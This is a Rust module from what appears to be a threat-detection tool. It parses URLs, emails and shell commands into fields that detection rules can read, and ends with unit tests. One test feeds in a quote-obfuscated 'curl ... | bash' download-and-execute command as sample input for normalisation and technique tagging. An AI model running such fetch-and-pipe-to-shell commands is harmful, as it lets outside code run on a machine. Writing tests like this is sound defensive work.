//! The parts of an event as fields that expressions can read: what a command is normalised to, what it runs and does; the parts
//! of a URL as browsers read them; who sent a mail and about what.
//!
//! ```text
//!   event ──parse──► `normalised`, `parts.…` ──with_parts──► the event with its parts before its own fields
//! ```
//!
//! The parts are for conditions that people write (rules). They are no signals, and no event is stored with them: its id would
//! be another one.

use std::sync::Arc;

use ringtrue_core::{Event, Field, Kind, Limits, Value};

use crate::command::Command;
use crate::evidence::{mail_of, parse_command};
use crate::session::Session;
use crate::url::{AddressSpelling, UrlParts};

/// Returns the names of the parts of events of a kind.
#[must_use]
pub const fn names(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Url => &[
            "parts.scheme",
            "parts.userinfo",
            "parts.host",
            "parts.subdomain",
            "parts.label",
            "parts.domain",
            "parts.suffix",
            "parts.is_address",
            "parts.port",
            "parts.path",
            "parts.query",
            "parts.fragment",
        ],
        Kind::Email => &["parts.subject", "parts.sender", "parts.body"],
        Kind::Command => &[
            "normalised",
            "parts.programs",
            "parts.actions",
            "parts.techniques",
            "parts.program",
            "parts.image",
        ],
        Kind::Session => &[
            "normalised",
            "parts.programs",
            "parts.actions",
            "parts.techniques",
        ],
        Kind::Table => &[],
    }
}

/// Returns the event with its parts before its own fields, so that a part hides a field of its name.
///
/// Lists (`parts.programs`, `parts.actions`, `parts.techniques`) are one text with a blank before and behind each item. Path,
/// query and fragment of a URL are in lowercase. `parts.program` is the program of a command that starts no other, and
/// `parts.image` the file it is, if the input's column `exe` or `Image` says so.
#[must_use]
pub fn with_parts(event: &Event, limits: &Limits) -> Event {
    let text = event.kind.evidence().and_then(|it| event.value(it).text());
    let text = text.as_deref().unwrap_or("");
    let values = match event.kind {
        Kind::Url => url(text, limits),
        Kind::Email => {
            let mail = mail_of(event, limits);
            let texts = [mail.subject(), mail.sender_address(), mail.body()];
            texts.map(value).to_vec()
        }
        Kind::Command => {
            let command = parse_command(text, limits, None);
            let mut values = of_command(&command);
            values.extend(process(event, &command));
            values
        }
        Kind::Session => {
            let (session, _) = Session::parse(text, limits);
            of_command(&Command::parse(&session.script(), limits).0)
        }
        Kind::Table => Vec::new(),
    };
    let field = |(name, value): (&&str, Value)| Field {
        name: Arc::from(*name),
        value,
    };
    let parts = names(event.kind).iter().zip(values).map(field);
    Event {
        fields: parts.chain(event.fields.iter().cloned()).collect(),
        ..event.clone()
    }
}

fn value(text: &str) -> Value {
    Value::Text(Arc::from(text))
}

fn url(text: &str, limits: &Limits) -> Vec<Value> {
    let (parts, _) = UrlParts::parse(text, limits);
    let is_address = parts.address_spelling() != AddressSpelling::Name;
    let port = parts.written_port().parse::<u16>();
    vec![
        value(parts.scheme()),
        value(parts.written_userinfo()),
        value(parts.host()),
        value(parts.subdomain()),
        value(parts.registrable_label()),
        value(parts.registrable_domain()),
        value(parts.suffix()),
        Value::Boolean(is_address),
        port.map_or(Value::Missing, |port| Value::Number(f64::from(port))),
        value(parts.lower_path()),
        value(parts.lower_query()),
        value(parts.lower_fragment()),
    ]
}

fn of_command(command: &Command) -> Vec<Value> {
    vec![
        value(&command.normalised()),
        listed(command.programs()),
        listed(command.actions()),
        listed(command.techniques().map(|it| it.id)),
    ]
}

/// Returns the one program of a command, and its file.
fn process(event: &Event, command: &Command) -> [Value; 2] {
    let mut columns = ["exe", "Image"].into_iter();
    let image = columns.find_map(|name| event.value(name).text());
    if let Some(image) = image {
        let name = image.rsplit('/').next().unwrap_or_default();
        return [value(name), value(&image)];
    }
    let mut programs = command.programs();
    let program = match (programs.next(), programs.next()) {
        (Some(program), None) => value(program),
        _ => Value::Missing,
    };
    [program, Value::Missing]
}

fn listed<'a>(items: impl Iterator<Item = &'a str>) -> Value {
    let mut text = String::from(" ");
    for item in items {
        text.push_str(item);
        text.push(' ');
    }
    value(&text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(kind: Kind, fields: &[(&str, &str)]) -> Event {
        let field = |(name, text): &(&str, &str)| Field {
            name: Arc::from(*name),
            value: value(text),
        };
        Event {
            kind,
            time: None,
            label_known: None,
            label: None,
            source: None,
            trust: ringtrue_core::Trust::Own,
            family: None,
            group: None,
            fields: fields.iter().map(field).collect(),
        }
    }

    fn part(event: &Event, name: &str) -> String {
        let with = with_parts(event, &Limits::default());
        with.value(name).text().as_deref().unwrap_or("-").to_owned()
    }

    #[test]
    fn every_kind_has_the_parts_that_it_names() {
        for kind in Kind::ALL {
            let with = with_parts(&event(kind, &[]), &Limits::default());
            let found: Vec<&str> = with.fields.iter().map(|it| &*it.name).collect();
            assert_eq!(found, names(kind), "{kind}");
        }
    }

    #[test]
    fn a_command_is_read_as_a_shell_does() {
        let line = event(
            Kind::Command,
            &[("command", "c\"ur\"l -s http://a.example/x | 'bash'")],
        );
        assert_eq!(
            part(&line, "normalised"),
            "curl -s http://a.example/x | bash"
        );
        assert_eq!(part(&line, "parts.programs"), " curl bash ");
        assert!(part(&line, "parts.techniques").contains(" T1105 "));
        assert_eq!(part(&line, "parts.program"), "-", "two programs run");
        let one = event(Kind::Command, &[("command", "/usr/bin/whoami")]);
        assert_eq!(part(&one, "parts.program"), "whoami");
        assert_eq!(part(&one, "parts.image"), "-");
        let audited = event(
            Kind::Command,
            &[("command", "x -c id"), ("exe", "/usr/bin/bash")],
        );
        assert_eq!(part(&audited, "parts.program"), "bash");
        assert_eq!(part(&audited, "parts.image"), "/usr/bin/bash");
    }

    #[test]
    fn a_url_is_read_as_browsers_do_and_parts_hide_fields_of_their_names() {
        let link = event(
            Kind::Url,
            &[
                ("url", "https://Pay.Login.example.co.uk:8443/A/b?C=1#D"),
                ("parts.host", "mine"),
            ],
        );
        for (name, expected) in [
            ("parts.host", "pay.login.example.co.uk"),
            ("parts.subdomain", "pay.login"),
            ("parts.domain", "example.co.uk"),
            ("parts.port", "8443"),
            ("parts.path", "/a/b"),
            ("parts.fragment", "d"),
            ("parts.is_address", "false"),
        ] {
            assert_eq!(part(&link, name), expected, "{name}");
        }
        let address = event(Kind::Url, &[("url", "http://0x7f.1/")]);
        assert_eq!(part(&address, "parts.is_address"), "true");
    }
}
